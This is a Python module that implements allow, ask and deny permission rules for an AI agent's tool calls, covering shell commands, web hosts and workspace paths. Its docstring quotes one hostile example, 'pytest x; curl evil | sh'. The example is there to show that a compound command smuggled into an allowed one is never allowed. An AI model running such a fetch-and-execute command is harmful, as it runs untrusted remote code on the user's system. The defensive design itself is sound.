"""Permission rules: `allow`, `ask` and `deny` patterns over tool calls (N3).

A rule is a tool-name pattern (`mcp__git__*`, `read_file`) or `tool(pattern)`: for a shell
tool the pattern is a command's words, `*` as the last word standing for any further
arguments (`run_shell(pytest *)`, `run_shell(git status)`); for web_fetch it is a host
(`web_fetch(docs.python.org)`, `web_fetch(*.example.com)`); for any other tool it is a
gitignore-style path pattern relative to the workspace (`edit_file(src/**)`). An allow rule
matches a shell call only when the command is one simple command (agent/tools/shell_words.py),
so `pytest x; curl evil | sh` is never allowed by `run_shell(pytest *)`, and a path pattern
never matches a path outside the workspace. `deny` wins over `ask`, which wins over `allow`.
"""

from __future__ import annotations

import fnmatch
import os
import re
import shlex
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from enum import StrEnum
from pathlib import Path
from typing import Any

from agent.tools.shell_words import simple_command

ANY_ARGUMENTS = "*"
_RULE = re.compile(r"^(?P<tool>[A-Za-z0-9_*?.\-]+)(?:\((?P<pattern>.*)\))?$", re.DOTALL)


class RuleProblem(ValueError):
    """A rule that does not parse; the message says why, as a clause after the rule."""


class Decision(StrEnum):
    """What a rule says about a call."""

    ALLOW = "allow"
    ASK = "ask"
    DENY = "deny"


STRENGTH = {Decision.DENY: 3, Decision.ASK: 2, Decision.ALLOW: 1}
"""When several rules match, the strongest decides: deny, then ask, then allow."""


@dataclass(frozen=True)
class Call:
    """A tool call as rules see it: its tool's name and kind, its arguments, the workspace."""

    tool: str
    kind: str
    args: Mapping[str, Any]
    workspace: Path


@dataclass(frozen=True)
class Rule:
    """One parsed rule: a tool-name pattern and, optionally, a command or path pattern."""

    text: str
    tool: str
    pattern: str | None = None

    def matches(self, call: Call, decision: Decision) -> bool:
        """True when this rule, used as `decision`, covers `call`."""
        if not fnmatch.fnmatchcase(call.tool, self.tool):
            return False
        if call.kind == "shell":
            return self._matches_shell(call, decision)
        if self.pattern is None:
            return True
        if call.kind == "web":
            from agent.web_hosts import matches, url_host

            host = url_host(call.args.get("url"))
            return host is not None and matches(host, self.pattern)
        path = _workspace_relative(call.args.get("path"), call.workspace)
        return path is not None and _path_spec(self.pattern).match_file(path)

    def _matches_shell(self, call: Call, decision: Decision) -> bool:
        command = call.args.get("command")
        if not isinstance(command, str):
            return False
        words = simple_command(command)
        if words is not None:
            return self.pattern is None or _words_match(shell_pattern(self.pattern), words)
        if decision is Decision.ALLOW:
            return False  # a compound or unreadable command never matches an allow rule
        # ask and deny reach into a compound command as far as the parser sees its parts.
        if self.pattern is None:
            return True
        wanted = shell_pattern(self.pattern)
        return any(_words_match(wanted, part) for part in inner_commands(command))


def parse_rule(text: Any) -> Rule:
    """The Rule `text` writes, or RuleProblem saying what is wrong with it."""
    if not isinstance(text, str) or not text.strip():
        raise RuleProblem("must be a string like run_shell(pytest *) or mcp__git__*")
    match = _RULE.match(text.strip())
    if match is None:
        raise RuleProblem(
            "is not a rule: write a tool name pattern, optionally with a pattern in "
            "parentheses, like run_shell(git status) or edit_file(src/**)"
        )
    pattern = match["pattern"]
    if pattern is not None:
        if not pattern.strip():
            raise RuleProblem("has empty parentheses; leave them out to match every call")
        if "\n" in pattern or "\r" in pattern:
            raise RuleProblem("spans lines; a rule is one line")
        if match["tool"] in SHELL_TOOLS:
            shell_pattern(pattern)
        elif match["tool"] in WEB_TOOLS:
            _host_pattern(pattern.strip())
        else:
            _path_spec(pattern)
    return Rule(text.strip(), match["tool"], pattern.strip() if pattern else None)


SHELL_TOOLS = frozenset({"run_shell"})
"""Tool names whose rule pattern is a command (their calls have kind `shell`)."""
WEB_TOOLS = frozenset({"web_fetch"})
"""Tool names whose rule pattern is a host (`web_fetch(docs.python.org)`, `*.example.com`)."""


def _host_pattern(pattern: str) -> None:
    from agent.web_hosts import host_pattern_problem

    problem = host_pattern_problem(pattern)
    if problem is not None:
        raise RuleProblem(f"has a host pattern that {problem}")


def shell_pattern(pattern: str) -> tuple[str, ...]:
    """A command pattern's words; `*` may stand only as the last word (any further words)."""
    try:
        words = tuple(shlex.split(pattern))
    except ValueError as exc:
        raise RuleProblem(f"has a command pattern that does not split into words ({exc})") from None
    if not words:
        raise RuleProblem("has an empty command pattern")
    if words[0] == ANY_ARGUMENTS:
        raise RuleProblem("starts with *; name the command, as in run_shell(pytest *)")
    if any("*" in word for word in words[:-1]) or ("*" in words[-1] and words[-1] != "*"):
        raise RuleProblem("uses * inside the command; * may only stand alone as the last word")
    return words


def _words_match(pattern: tuple[str, ...], words: tuple[str, ...]) -> bool:
    if pattern[-1] == ANY_ARGUMENTS:
        fixed = pattern[:-1]
        return words[: len(fixed)] == fixed
    return words == pattern


def inner_commands(command: str) -> Iterable[tuple[str, ...]]:
    """The words of every command inside a compound one, as far as the parser reads them."""
    from agent.tools.shell_words import words_of_parts

    return words_of_parts(command)


def _path_spec(pattern: str) -> Any:
    from pathspec import GitIgnoreSpec

    if pattern.startswith("!"):
        raise RuleProblem("starts with !; put the exception in another list instead")
    try:
        return GitIgnoreSpec.from_lines([pattern])
    except Exception as exc:  # pathspec raises several kinds for a bad pattern
        raise RuleProblem(f"has a path pattern that does not parse ({exc})") from None


def _workspace_relative(path: Any, workspace: Path) -> str | None:
    """`path` relative to the workspace, or None when it is not inside it (links followed)."""
    if not isinstance(path, str) or not path or "\x00" in path:
        return None
    root = Path(os.path.realpath(workspace))
    target = Path(os.path.realpath(root / Path(path).expanduser()))
    if target == root or not target.is_relative_to(root):
        return None
    return target.relative_to(root).as_posix()


@dataclass(frozen=True)
class PlacedRule:
    """A rule with its decision and where it comes from (config.yaml or this project)."""

    rule: Rule
    decision: Decision
    origin: str


def parse_rules(lists: Mapping[Decision, Iterable[str]], origin: str) -> list[PlacedRule]:
    """Every rule of `lists` placed with its decision and `origin` (RuleProblem on a bad one)."""
    return [
        PlacedRule(parse_rule(text), decision, origin)
        for decision in Decision
        for text in lists.get(decision, ())
    ]


def decide(rules: Iterable[PlacedRule], call: Call) -> PlacedRule | None:
    """The strongest rule that matches `call` (deny over ask over allow), or None."""
    best: PlacedRule | None = None
    for placed in rules:
        if placed.rule.matches(call, placed.decision) and (
            best is None or STRENGTH[placed.decision] > STRENGTH[best.decision]
        ):
            best = placed
    return best
